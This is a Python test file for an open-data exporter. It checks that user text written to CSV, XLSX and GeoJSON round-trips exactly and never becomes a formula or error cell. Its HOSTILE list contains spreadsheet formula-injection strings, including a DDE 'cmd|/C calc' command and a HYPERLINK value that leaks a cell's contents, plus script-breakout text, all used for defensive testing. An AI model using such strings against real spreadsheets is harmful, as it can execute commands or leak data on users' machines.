"""What people type stays what they typed, in each form, and never becomes a formula or another cell."""

import io
import zipfile

import pytest
from hypothesis import example, given, settings, strategies as st

from activities.exports import cell
from activities.licences import Licence
from activities.open_data import writers
from activities.open_data.columns import Column
from activities.open_data.writers import Head, csv_file, geojson_file, plain, xlsx_file
from tests.open_data.reading import csv_cells, csv_rows, feature_rows, xlsx_rows

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1;"klik")',
    "+31 70 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "＝1+1",
    "  =1+1",
    "'=1+1",
    "''+1",
    "'s Middags koffie; met 'aanhalingstekens'",
    "\t=1",
    "een\r\ntwee\rdrie\n",
    '";"=1+1";"',
    "a;b,c\td",
    "#N/A",
    "#REF!",
    "TRUE",
    "0701234567",
    "1E5",
    "2026-12-01",
    "koffie\x00thee",
    "bel\x07 \x1b[31m \x0b",
    "\ufffe\uffff \ud800",
    "\u202egnol\u202c \u200f مرحبا",
    "👩‍👩‍👧 ☕ \U0001f600",
    " spaties ",
    "<script>alert(1)</script> & ]]> </t></is>",
    "_x003D_1+1",
    "\u2028\u2029\x85",
    "=",
    "'",
    "",
]
TEXTS = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30), st.text(alphabet="'=+-@;\"\t\r\n a", max_size=8))
COLUMNS = [
    Column(name, "…", lambda said, name=name: said[name])
    for name in ("id", "naam", "reden", "lat", "lon", "prijs", "gratis")
]
HEAD = Head("rijen", COLUMNS, Licence.CC_BY, "2026-12-01T00:00:00Z")


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("files")


def _write(write, path, rows):
    with write(path, HEAD) as file:
        for values in rows:
            file.add([plain(value) for value in values])
    return path.read_bytes()


def _rows(texts):
    return [[str(number), text, text[::-1], 52.05, -4.3, -5, None] for number, text in enumerate(texts)]


@given(st.lists(TEXTS, min_size=1, max_size=6))
@example(HOSTILE)
@settings(max_examples=150)
def test_a_text_comes_back_as_it_was(folder, texts):
    rows = _rows(texts)
    kept = [(plain(row[1]), plain(row[2])) for row in rows]

    of_csv = csv_rows(_write(csv_file, folder / "rijen.csv", rows))
    assert [(row["naam"], row["reden"]) for row in of_csv] == kept
    assert {(row["lat"], row["lon"], row["prijs"], row["gratis"]) for row in of_csv} == {("52.05", "-4.3", "-5", "")}
    of_xlsx = xlsx_rows(_write(xlsx_file, folder / "rijen.xlsx", rows), "rijen")
    # An empty cell and an empty text are one thing in a sheet.
    assert [(row["naam"] or "", row["reden"] or "") for row in of_xlsx] == kept
    assert {(row["lat"], row["lon"], row["prijs"], row["gratis"]) for row in of_xlsx} == {(52.05, -4.3, -5, None)}
    of_json = feature_rows(_write(geojson_file, folder / "rijen.geojson", rows))
    assert [(row["naam"], row["reden"]) for row in of_json] == kept


@given(st.lists(TEXTS, min_size=1, max_size=6))
@example(HOSTILE)
@settings(max_examples=50)
def test_no_cell_is_a_formula(folder, texts):
    rows = _rows(texts)
    texts_of_csv = [text for row in csv_cells(_write(csv_file, folder / "rijen.csv", rows))[1:] for text in row[1:3]]
    assert not [
        text
        for text in texts_of_csv
        if text.lstrip().startswith(tuple("=+-@＝＋－＠")) or (text[:1] in "\t\r\n" and text)
    ]

    with zipfile.ZipFile(io.BytesIO(_write(xlsx_file, folder / "rijen.xlsx", rows))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<f " not in sheet
    assert 't="e"' not in sheet


@given(st.text())
def test_only_what_no_file_can_hold_is_taken_out(text):
    kept = plain(text)
    assert plain(kept) == kept
    assert [letter for letter in kept if letter.isprintable()] == [letter for letter in text if letter.isprintable()]


@given(TEXTS, TEXTS)
def test_two_texts_never_become_the_same_cell(one, other):
    assert (cell(one) == cell(other)) == (one == other)


def test_a_text_that_looks_like_a_formula_stays_one_when_somebody_opens_the_cell(folder):
    content = _write(xlsx_file, folder / "rijen.xlsx", _rows(["=1+1"]))
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert 'quotePrefix="1"' in book.read("xl/styles.xml").decode()


def test_a_sheet_without_rows_has_its_header(folder):
    assert xlsx_rows(_write(xlsx_file, folder / "leeg.xlsx", []), "rijen") == []
    assert writers.ROWS_PER_SHEET < 1_048_576
